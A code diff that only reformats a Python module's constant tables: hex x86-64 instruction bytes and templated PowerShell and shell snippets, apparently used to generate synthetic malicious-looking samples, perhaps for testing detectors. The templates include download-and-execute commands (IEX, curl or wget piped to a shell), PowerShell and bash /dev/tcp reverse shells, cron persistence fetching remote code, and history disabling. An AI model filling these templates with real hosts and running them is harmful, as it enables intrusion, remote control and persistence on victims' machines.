@@ -15,11 +15,42 @@ Maker = Callable[[random.Random], bytes]
 
 _INSTRUCTIONS = [
     bytes.fromhex(code)
-    for code in (
-        "4883ec28 4889e5 55 53 57 56 488b4508 488945f8 31c0 85c0 0f84aa000000 e8b3020000 "
-        "c3 5d 5b 5f 5e 4883c428 488d0d55100000 ff1577200000 8b45fc 8945f4 83f801 7405 eb12 "
-        "4c8b442450 4d85c0 0fb6c0 660f1f440000 90 b801000000 ba20000000 488b00 48c7c000000000"
-    ).split()
+    for code in [
+        "4883ec28",
+        "4889e5",
+        "55",
+        "53",
+        "57",
+        "56",
+        "488b4508",
+        "488945f8",
+        "31c0",
+        "85c0",
+        "0f84aa000000",
+        "e8b3020000",
+        "c3",
+        "5d",
+        "5b",
+        "5f",
+        "5e",
+        "4883c428",
+        "488d0d55100000",
+        "ff1577200000",
+        "8b45fc",
+        "8945f4",
+        "83f801",
+        "7405",
+        "eb12",
+        "4c8b442450",
+        "4d85c0",
+        "0fb6c0",
+        "660f1f440000",
+        "90",
+        "b801000000",
+        "ba20000000",
+        "488b00",
+        "48c7c000000000",
+    ]
 ]
 
 
@@ -245,32 +276,50 @@ def _address(rng: random.Random) -> str:
 
 
 _POWERSHELL = (
-    "$%a = New-Object System.Net.WebClient\r\n$%b = $%a.DownloadString('http://%h:%p/%c.ps1')\r\n"
-    "Invoke-Expression $%b\r\n",
-    "function %a {\n  param([string]$%b, [int]$%c = %p)\n  $%d = [System.Text.Encoding]::ASCII."
-    "GetBytes($%b)\n  foreach ($x in $%d) { Write-Output ($x -bxor $%c) }\n}\n%a -%b 'hello'\n",
-    "$%a = (Get-ItemProperty -Path 'HKCU:\\Software\\%b' -Name '%c').'%c'\n"
-    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($%a)) | Out-Null\n"
-    "Start-Sleep -Seconds %p\n",
-    'if (-not (Test-Path "$env:APPDATA\\%a")) { New-Item -ItemType Directory -Path '
-    "\"$env:APPDATA\\%a\" | Out-Null }\n$%b = Get-Process | Where-Object { $_.Name -eq '%c' }\n"
-    "if ($%b) { Stop-Process -Id $%b.Id -Force } else { IEX (irm http://%h/%d) }\n",
-    "$%a=[AppDomain]::CurrentDomain.GetAssemblies() | ForEach-Object { $_.GetTypes() };\n"
-    "$%b = New-Object Net.Sockets.TCPClient('%h', %p); $%c = $%b.GetStream(); "
-    "[byte[]]$%d = 0..65535|%{0}; while(($i = $%c.Read($%d, 0, $%d.Length)) -ne 0) { "
-    "$s = (iex $x 2>&1 | Out-String) }\n",
+    (
+        "$%a = New-Object System.Net.WebClient\r\n$%b = $%a.DownloadString('http://%h:%p/%c.ps1')\r\n"
+        "Invoke-Expression $%b\r\n"
+    ),
+    (
+        "function %a {\n  param([string]$%b, [int]$%c = %p)\n  $%d = [System.Text.Encoding]::ASCII."
+        "GetBytes($%b)\n  foreach ($x in $%d) { Write-Output ($x -bxor $%c) }\n}\n%a -%b 'hello'\n"
+    ),
+    (
+        "$%a = (Get-ItemProperty -Path 'HKCU:\\Software\\%b' -Name '%c').'%c'\n"
+        "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($%a)) | Out-Null\n"
+        "Start-Sleep -Seconds %p\n"
+    ),
+    (
+        'if (-not (Test-Path "$env:APPDATA\\%a")) { New-Item -ItemType Directory -Path '
+        "\"$env:APPDATA\\%a\" | Out-Null }\n$%b = Get-Process | Where-Object { $_.Name -eq '%c' }\n"
+        "if ($%b) { Stop-Process -Id $%b.Id -Force } else { IEX (irm http://%h/%d) }\n"
+    ),
+    (
+        "$%a=[AppDomain]::CurrentDomain.GetAssemblies() | ForEach-Object { $_.GetTypes() };\n"
+        "$%b = New-Object Net.Sockets.TCPClient('%h', %p); $%c = $%b.GetStream(); "
+        "[byte[]]$%d = 0..65535|%{0}; while(($i = $%c.Read($%d, 0, $%d.Length)) -ne 0) { "
+        "$s = (iex $x 2>&1 | Out-String) }\n"
+    ),
 )
 _SHELL = (
-    '#!/bin/sh\nset -e\n%a=http://%h:%p/%b\ncurl -fsSL "$%a" -o /dev/shm/.%c\n'
-    "chmod +x /dev/shm/.%c\n/dev/shm/.%c --%d &\nrm -f /dev/shm/.%c\n",
-    "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n    kill -9 $(pgrep %b)\n"
-    "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\nwget -q -O - http://%h/%c | bash\n",
-    '#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo "$%b" >> /tmp/%c.log\n}\n'
-    'while true; do\n  %a "$(date)"\n  exec 5<>/dev/tcp/%h/%p\n  cat <&5 | while read %d; do '
-    "$%d 2>&5 >&5; done\ndone\n",
-    "#!/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n%a=$(mktemp /tmp/%b.XXXXXX)\n"
-    'trap \'rm -f "$%a"\' EXIT\ncrontab -l > "$%a" 2>/dev/null\n'
-    'echo \'*/5 * * * * curl -s http://%h/%c | sh\' >> "$%a"\ncrontab "$%a"\n',
+    (
+        '#!/bin/sh\nset -e\n%a=http://%h:%p/%b\ncurl -fsSL "$%a" -o /dev/shm/.%c\n'
+        "chmod +x /dev/shm/.%c\n/dev/shm/.%c --%d &\nrm -f /dev/shm/.%c\n"
+    ),
+    (
+        "#!/bin/bash\nfor %a in 1 2 3; do\n  if ps aux | grep -q '%b'; then\n    kill -9 $(pgrep %b)\n"
+        "  fi\n  sleep %p\ndone\nexport HISTFILE=/dev/null\nwget -q -O - http://%h/%c | bash\n"
+    ),
+    (
+        '#!/usr/bin/env bash\n%a() {\n  local %b=$1\n  echo "$%b" >> /tmp/%c.log\n}\n'
+        'while true; do\n  %a "$(date)"\n  exec 5<>/dev/tcp/%h/%p\n  cat <&5 | while read %d; do '
+        "$%d 2>&5 >&5; done\ndone\n"
+    ),
+    (
+        "#!/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n%a=$(mktemp /tmp/%b.XXXXXX)\n"
+        'trap \'rm -f "$%a"\' EXIT\ncrontab -l > "$%a" 2>/dev/null\n'
+        'echo \'*/5 * * * * curl -s http://%h/%c | sh\' >> "$%a"\ncrontab "$%a"\n'
+    ),
 )
 
 
